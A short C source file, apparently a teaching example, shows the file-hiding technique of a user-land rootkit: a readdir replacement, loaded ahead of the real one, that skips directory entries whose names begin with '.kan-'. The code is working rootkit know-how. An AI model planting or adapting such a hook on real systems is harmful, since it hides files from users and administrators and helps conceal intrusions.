/* What a rootkit of user land does: a library that leaves names out of directories. It hides names
 * that begin with ".kan-" only, and does nothing else. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent *readdir(DIR *dir)
{
	struct dirent *(*next)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
	struct dirent *e = next(dir);
	while (e && strncmp(e->d_name, ".kan-", 5) == 0)
		e = next(dir);
	return e;
}
